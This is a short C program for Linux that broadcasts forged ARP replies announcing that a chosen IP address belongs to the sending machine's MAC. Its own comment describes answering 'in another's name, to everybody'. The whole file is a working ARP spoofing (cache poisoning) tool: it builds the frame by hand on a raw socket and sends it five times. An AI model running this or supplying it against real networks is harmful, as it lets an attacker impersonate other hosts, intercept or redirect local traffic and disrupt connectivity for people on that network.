/* Answers to ARP in another's name, to everybody: "ADDRESS is at my MAC". Arguments: device, address. */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <linux/if_packet.h>
#include <netinet/if_ether.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int count, char **arguments) {
    struct { struct ether_header head; struct ether_arp body; } frame = {0};
    struct ifreq device = {0};
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (count != 3 || fd < 0) return 1;
    strncpy(device.ifr_name, arguments[1], IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFHWADDR, &device) < 0) return 1;
    memset(frame.head.ether_dhost, 0xff, 6);
    memcpy(frame.head.ether_shost, device.ifr_hwaddr.sa_data, 6);
    frame.head.ether_type = htons(ETH_P_ARP);
    frame.body.ea_hdr = (struct arphdr){htons(1), htons(ETH_P_IP), 6, 4, htons(ARPOP_REPLY)};
    memcpy(frame.body.arp_sha, device.ifr_hwaddr.sa_data, 6);
    memset(frame.body.arp_tha, 0xff, 6);
    inet_pton(AF_INET, arguments[2], frame.body.arp_spa);
    inet_pton(AF_INET, arguments[2], frame.body.arp_tpa);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(arguments[1]), .sll_halen = 6};
    memset(to.sll_addr, 0xff, 6);
    for (int i = 0; i < 5; i++) {
        if (sendto(fd, &frame, sizeof frame, 0, (struct sockaddr *)&to, sizeof to) < 0) return 1;
        usleep(20000);
    }
    printf("sent\n");
    return 0;
}
